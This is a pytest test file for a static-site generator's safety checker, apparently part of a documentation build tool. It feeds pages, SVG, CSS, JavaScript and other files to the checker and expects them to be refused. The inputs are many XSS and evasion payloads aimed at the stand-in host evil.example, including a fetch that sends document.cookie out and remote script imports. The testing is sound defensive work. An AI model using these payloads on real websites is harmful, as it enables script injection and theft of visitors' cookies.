"""What pages, drawings, style sheets and scripts may hold: a list of what is good, nothing else."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from macros.building.built import read_built
from macros.building.third_parties import third_parties
from macros.pages.inline import inside_pages
from macros.pages.site import Site, build_site
from macros.settings import Settings
from tests.conftest import GUIDE

OWN = "https://plan.example.org/kb/"
PAGES = {
    "<script>alert(1)</script>": "不是本站程序的脚本",
    "<script type=module>import('https://evil.example/x.js')</script>": "不是本站程序的脚本",
    "<script src='https://evil.example/x.js'></script>": "向别的网站请求",
    "<script src='//evil.example/x.js'></script>": "向别的网站请求",
    "<script src='\\\\evil.example/x.js'></script>": "向别的网站请求",
    "<script src='data:text/javascript,alert(1)'></script>": "向别的网站请求",
    "<script type=importmap>{}</script>": "type 不能是“importmap”",
    "<script type=speculationrules>{}</script>": "type 不能是“speculationrules”",
    "<style>p{color:red}</style>": "不是本站程序的样式",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>": "不能用 <iframe>",
    "<iframe src='a/'></iframe>": "不能用 <iframe>",
    "<embed src='a/'>": "不能用 <embed>",
    "<noscript><p></noscript>": "不能用 <noscript>",
    "<math><mtext></math>": "不能用 <math>",
    "<template><p></template>": "不能用 <template>",
    "<xmp><p></xmp>": "不能用 <xmp>",
    "<portal src='a/'></portal>": "不能用 <portal>",
    "<p onclick='alert(1)'>甲</p>": "不能有属性“onclick”",
    "<p ONMOUSEOVER=x>甲</p>": "不能有属性“onmouseover”",
    "<body onload='alert(1)'>甲</body>": "不能用 <body>",
    "<!--> <body onload='alert(1)'> -->": "不能用 <body>",
    "<HTML onclick=x>": "不能用 <html>",
    "<p srcdoc=x>甲</p>": "不能有属性“srcdoc”",
    "<a href='a/' ping='https://evil.example/'>甲</a>": "不能有属性“ping”",
    "<a href='a/' attributionsrc=x>甲</a>": "不能有属性“attributionsrc”",
    "<button formaction='https://evil.example/'>甲</button>": "不能有属性“formaction”",
    "<table background='https://evil.example/x.png'></table>": "不能有属性“background”",
    "<input type=image src='https://evil.example/x.png'>": "不能有属性“src”",
    "<base href='https://evil.example/'>": "不能有属性“href”",
    "<a href='javascript:alert(1)'>甲</a>": "链接“javascript:alert(1)”不能用",
    "<a href=' JaVa&#10;ScRiPt:alert(1)'>甲</a>": "不能用",
    "<a href='vbscript:x'>甲</a>": "不能用",
    "<a href='data:text/html,x'>甲</a>": "不能用",
    "<a href='blob:x'>甲</a>": "不能用",
    "<a href='file:///etc/passwd'>甲</a>": "不能用",
    "<blockquote cite='javascript:x'>甲</blockquote>": "不能用",
    "<form action='https://evil.example/'></form>": "向别的网站请求",
    "<img src='https://evil.example/x.png'>": "向别的网站请求",
    "<img src='HTTPS:evil.example/x.png'>": "向别的网站请求",
    "<img src='../../x.png'>": "向别的网站请求",
    "<img src='data:text/html,x'>": "向别的网站请求",
    "<img src='https://plan.example.org/kb/../x.png'>": "向别的网站请求",
    "<script src='/kb/a/%2e%2E/..%2fx.js'></script>": "向别的网站请求",
    "<div>" * 300
    + "</div>" * 300
    + "<script src='//evil.example/x.js'></script>": "向别的网站请求",
    "<div>" * 220 + "甲": "套了 200 层还多",
    "<svg><rect fill='url(https://evil.example/x.svg#a)'/></svg>": "向别的网站请求",
    "<svg><g mask='url(&quot;//evil.example/x.svg#a&quot;)'/></svg>": "向别的网站请求",
    "<img srcset='a.png 1x, https://evil.example/x.png 2x'>": "向别的网站请求",
    "<video poster='https://evil.example/x.png'></video>": "向别的网站请求",
    "<object data='https://evil.example/x'></object>": "向别的网站请求",
    "<div data-script='https://evil.example/x.js'></div>": "向别的网站请求",
    "<div data-index='https://evil.example/x.js'></div>": "向别的网站请求",
    "<div data-api='https://evil.example/'></div>": "向别的网站请求",
    "<div data-root='javascript:'></div>": "不能用",
    "<link rel=Stylesheet href='https://evil.example/x.css'>": "向别的网站请求",
    "<link rel='alternate StyleSheet' href='https://evil.example/x.css'>": "向别的网站请求",
    "<link rel=dns-prefetch href='https://evil.example/'>": "rel 不能是“dns-prefetch”",
    "<link rel=preconnect href='https://evil.example/'>": "rel 不能是“preconnect”",
    "<link rel=pingback href='a/'>": "rel 不能是“pingback”",
    "<link rel=modulepreload href='https://evil.example/x.js'>": "向别的网站请求",
    "<link rel=canonical href='javascript:x'>": "不能用",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>": "不能自动转到",
    "<meta http-equiv=Refresh content='0;https://evil.example/'>": "不能自动转到",
    "<meta http-equiv=refresh content='0; url=javascript:alert(1)'>": "不能自动转到",
    "<meta http-equiv=set-cookie content='a=b'>": "http-equiv 不能是“set-cookie”",
    "<p style='color:red'>甲</p>": "不能有属性“style”",
    "<svg><rect style='fill:red'/></svg>": "不能有属性“style”",
    "<svg><a xlink:href='javascript:x'><text>甲</text></a></svg>": "不能有属性“xlink:href”",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>": "只能引用本图里的部分",
    "<svg><style>@import '//evil.example'</style></svg>": "<svg> 里不能有 <style>",
    "<svg><foreignObject><p>甲</p></foreignObject></svg>": "不能用 <foreignobject>",
    "<svg><title><img src=x onerror=y></title></svg>": "不能用 <title>",
    "<svg><animate attributeName=href to='javascript:x'/></svg>": "不能用 <animate>",
    "<svg><script>alert(1)</script></svg>": "<svg> 里不能有 <script>",
    "<svg><p>甲</p></svg>": "<svg> 里不能有 <p>",
}
FILES = {
    "a.svg": {
        "<script>alert(1)</script>": "不能有 <script>",
        "<rect onload='x'/>": "不能有属性“onload”",
        "<foreignObject/>": "不能有 <foreignobject>",
        "<a href='javascript:x'/>": "不能用",
        "<a xmlns:x='http://www.w3.org/1999/xlink' x:href='javascript:x'/>": "不能用",
        "<image href='https://evil.example/x.png'/>": "向别的网站请求",
        "<use href='data:image/svg+xml,%3Csvg/%3E#a'/>": "向别的网站请求",
        "<use href='https://evil.example/x.svg#a'/>": "向别的网站请求",
        "<set attributeName='href' to='javascript:x'/>": "不能有 <set>",
        "<rect fill='url(https://evil.example/x.svg#a)'/>": "样式会向别的网站请求",
        "<rect style='fill:url(https://evil.example/x.svg#a)'/>": "样式会向别的网站请求",
        """<rect style="--a:'url(&quot;';background:url(//evil.example/x)"/>""": "向别的网站请求",
        "<?xml-stylesheet href='https://evil.example/x.css'?>": "不能有 <?",
        "<rect": "读不懂",
    },
    "a.css": {
        "@import 'https://evil.example/x.css';": "向别的网站请求",
        "@IMPORT url(//evil.example/x.css);": "向别的网站请求",
        "p{background:URL( 'https://evil.example/x' )}": "向别的网站请求",
        "p{background:u\\000072l(https\\3a //evil.example/x)}": "向别的网站请求",
        "@import 'https://evil.example/x.css": "向别的网站请求",
        "p{content:'/*'}q{background:url(//evil.example/x)}p{content:'*/'}": "向别的网站请求",
        "p{background:\\75rl(/*)}q{background:url(//evil.example/x)}/**/": "向别的网站请求",
        """p{content:"/*
}q{background:url(//evil.example/x)}/**/""": "向别的网站请求",
        "p{background:image-set('https://evil.example/x' 1x)}": "向别的网站请求",
        r"""p{content:'url("'}q{background:url(//evil.example/x)}""": "向别的网站请求",
        'p{background:image-set(" //evil.example/x" 1x)}': "向别的网站请求",
        'p{background:image-set("\\\n//evil.example/x" 1x)}': "向别的网站请求",
        r'p{background:image-set("\\\\evil.example/x" 1x)}': "向别的网站请求",
        '@import" //evil.example/x.css"': "向别的网站请求",
        r'@import/**/"\\\\evil.example/x.css"': "向别的网站请求",
        "#url(/* ) ' */ ){}q{content:'/*'}r{background:url(//evil.example/x)}p{content:'*/'}": "向别的网站请求",
        'a{background:url(\u3000"/*)}r{background:url(//evil.example/x)}/*"*/': "向别的网站请求",
        "<!--url(/*)p{background:url(//evil.example/x)}/**/": "向别的网站请求",
    },
    "a.js": {
        "import('https://evil.example/x.js')": "脚本里有别的网站的网址",
        'import x from "//evil.example/x.js"': "脚本里有别的网站的网址",
        r"fetch('\x68ttps://evil.example/')": "脚本里有别的网站的网址",
        r"fetch('\/\u002fevil.example/')": "脚本里有别的网站的网址",
        r"fetch('https://evil.example/\ud83d')": "网址“https://evil.example/\ufffd”",
        r"fetch('\https://evil.example/')": "脚本里有别的网站的网址",
        r"fetch('\150ttps://evil.example/')": "脚本里有别的网站的网址",
        "fetch('ht\\\ntps://evil.example/')": "脚本里有别的网站的网址",
        r"fetch(' ht\ttps://evil.example/')": "脚本里有别的网站的网址",
        r"fetch('\/\u{2F}evil.example/')": "脚本里有别的网站的网址",
        'a({"a": %s"https://evil.example/"})' % ("[" * 100_000): "脚本里有别的网站的网址",
        "fetch(`https://evil.example/${document.cookie}`)": "脚本里有别的网站的网址",
        "new WebSocket('wss://evil.example/')": "脚本里有别的网站的网址",
        'import("data:text/javascript,alert(1)")': "脚本里有别的网站的网址",
        'alert(1)({"a": "https://evil.example/"})': "脚本里有别的网站的网址",
    },
    "a.mjs": {"import('https://evil.example/x.js')": "脚本里有别的网站的网址"},
    "a.webmanifest": {
        f'{{"src": "{where}evil.example/x.png"}}': "文件里有别的网站的网址"
        for where in ("https://", r"\/\/", r"\u0068ttps://", " https://")
    }
    | {"[" * 100_000: "读不懂"},
    "a.xml": {
        "<html xmlns='http://www.w3.org/1999/xhtml'/>": "当作网页",
        "<?xml-stylesheet href='x.xsl'?><!-- 甲 --><a/>": "当作网页",
        "<a><b></a>": "读不懂",
        "<a><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></a>": "当作网页",
        "<a><s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg></a>": "当作网页",
    },
    "a.xhtml": {"": "不放“.xhtml”文件"},
    "a.HTM": {"": "不放“.HTM”文件"},
    "a.HTML": {"<script>alert(1)</script>": "不放“.HTML”文件"},
    "a.rdf": {"": "不放“.rdf”文件"},
    "index.html.gz": {"": "不放“.gz”文件"},
    "_redirects": {"/* https://evil.example/ 301": "不放“_redirects”文件"},
    ".htaccess": {"": "不放“.htaccess”文件"},
}
"""For each kind of file what is hostile, and what is said of it."""
GOOD = (
    "<a href='a/'>甲</a><a href='https://example.org/?a=1:2' rel='noopener'>乙</a>",
    "<a href='mailto:a@example.org'>丙</a><a href='tel:110'>丁</a><a href='./x:y'>戊</a><a href=''>己</a>",
    "<img src='a.png' alt='' width=1 height=1><img src='data:image/png;base64,AA' alt=''>",
    "<img srcset='a.png 1x, b.png 2x' src='/kb/a.png' alt=''>",
    "<details><summary>甲</summary><p class='a' data-b='https://例'>乙</p></details>",
    "<form action='search/' role=search><input name=q type=search></form>",
    "<svg viewBox='0 0 1 1'><defs><path id=a d='M0 0'/></defs><use href='#a' fill='url(#b)'/></svg>",
    "<meta http-equiv=refresh content='0; url=../kb/a/'>",
    "<link rel='alternate' href='https://code.example/x'><link rel=Stylesheet href='a.css'>",
    '<script type=\'application/ld+json\'>{"a": "https://example.org/"}</script>',
    "<textarea><iframe src='https://evil.example/'></textarea><!-- <script> -->",
    "<!--[if IE]><body class='a'><![endif]--><!-- <head> <HTML> -->",
)


@pytest.fixture(scope="module")
def site() -> Site:
    return build_site(replace(Settings(plan=GUIDE), site_url=OWN))


def faults(site: Site, folder: Path, **files: str) -> list[str]:
    (folder / "index.html").write_text("<title>甲</title><p>甲</p>", "utf-8")
    for name, text in files.items():
        (folder / name).write_text(text, "utf-8")
    return list(third_parties(read_built(folder, site.settings.site_url), site))


@pytest.mark.parametrize("part", PAGES)
def test_what_is_not_known_to_be_harmless_is_refused_in_a_page(
    site: Site, tmp_path: Path, part: str
) -> None:
    page = f"<!doctype html><html><head><title>甲</title></head><body><p>甲</p>{part}</body></html>"
    found = faults(site, tmp_path, **{"a.html": page})
    assert found
    assert all(fault.startswith("a.html：") and fault.endswith("。") for fault in found)
    assert any(PAGES[part] in fault for fault in found), found


@pytest.mark.parametrize(
    ("name", "text"), [(name, text) for name, texts in FILES.items() for text in texts]
)
def test_what_is_not_known_to_be_harmless_is_refused_in_a_file(
    site: Site, tmp_path: Path, name: str, text: str
) -> None:
    words = FILES[name][text]
    whole = f'<svg xmlns="http://www.w3.org/2000/svg">{text}</svg>' if name == "a.svg" else text
    found = faults(site, tmp_path, **{name: whole})
    assert [fault for fault in found if fault.startswith(f"{name}：") and words in fault], found


def test_an_entity_in_a_drawing_is_refused(site: Site, tmp_path: Path) -> None:
    for told in ('<!ENTITY a "b">', '<!ATTLIST rect onload CDATA "alert(1)">'):
        text = f'<!DOCTYPE svg [{told}]><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
        assert any("<!ENTITY>" in fault for fault in faults(site, tmp_path, **{"a.svg": text}))


@pytest.mark.parametrize("part", GOOD)
def test_what_pages_are_made_of_passes(site: Site, tmp_path: Path, part: str) -> None:
    assert faults(site, tmp_path, **{"a.html": f"<title>甲</title><p>甲</p>{part}"}) == []


def test_data_may_name_other_sites(site: Site, tmp_path: Path) -> None:
    files = {
        "a.js": 'searchPart({"a": ["https://example.org/"]});\n',
        "b.js": '"use strict" // "a"\n// b',
        "a.css": "/* it's 'https://example.org/' */p{content:'//'}/* url(//example.org) */",
        "a.xml": "<?xml version='1.0'?><!-- 甲 --><?a?><a b='https://example.org/'/>",
    }
    assert faults(site, tmp_path, **files) == []


def test_the_engines_own_scripts_and_styles_stand_in_pages(site: Site, tmp_path: Path) -> None:
    scripts, styles = inside_pages(".js"), inside_pages(".css")
    assert len(scripts) > 4
    assert styles
    parts = [f"<script>{one}</script>" for one in scripts] + [f"<style>{s}</style>" for s in styles]
    page = "<title>甲</title>" + "".join(parts)
    assert faults(site, tmp_path, **{"a.html": page}) == []
    spoilt = page.replace(scripts[0], f"{scripts[0]}alert(1)", 1)
    assert faults(site, tmp_path, **{"a.html": spoilt})
